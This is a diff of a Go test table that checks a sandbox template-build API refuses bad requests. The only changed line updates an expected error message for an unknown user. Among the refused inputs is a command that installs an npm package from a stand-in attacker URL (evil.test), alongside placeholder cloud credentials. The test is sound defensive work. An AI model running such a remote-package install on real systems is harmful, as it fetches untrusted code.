@@ -376,7 +376,7 @@ func TestTemplateBuildRefused(t *testing.T) {
 		{"another project's upload", e.key2, copyStep(hash), 400, "no files uploaded"},
 		{"npm_install of a URL", e.key1, `{"steps":[{"type":"RUN","args":["npm install -g https://evil.test/x.tgz","root"]}]}`, 400, `recipe.steps[2].npm.packages \"https://evil.test/x.tgz\": want a registry package`},
 		{"npm_install from git", e.key1, `{"steps":[{"type":"RUN","args":["npm install github:user/repo"]}]}`, 400, "no URLs, paths, git or aliases"},
-		{"a user Lizard has not", e.key1, `{"steps":[{"type":"RUN","args":["whoami","root123"]}]}`, 400, `step 1 (RUN whoami root123): user \"root123\"`},
+		{"a user Lizard has not", e.key1, `{"steps":[{"type":"RUN","args":["whoami","root123"]}]}`, 400, `step 1 (RUN whoami root123): failed to run command 'whoami': command failed: unauthenticated: invalid username: 'root123': a Lizard sandbox has two users`},
 		{"an AWS registry", e.key1, `{"fromImage":"1.dkr.ecr.test/app:1","fromImageRegistry":{"type":"aws","awsAccessKeyId":"a","awsSecretAccessKey":"s","awsRegion":"r"},"steps":[]}`, 501, "from_aws_registry"},
 		{"a GCP key that is not JSON", e.key1, `{"fromImage":"gcr.test/app:1","fromImageRegistry":{"type":"gcp","serviceAccountJson":"path/to/key.json"},"steps":[]}`, 400, "from_gcp_registry: the service account's JSON key"},
 		{"a registry without a password", e.key1, `{"fromImage":"reg.test/app:1","fromImageRegistry":{"type":"registry","username":"u"},"steps":[]}`, 400, "username and password"},
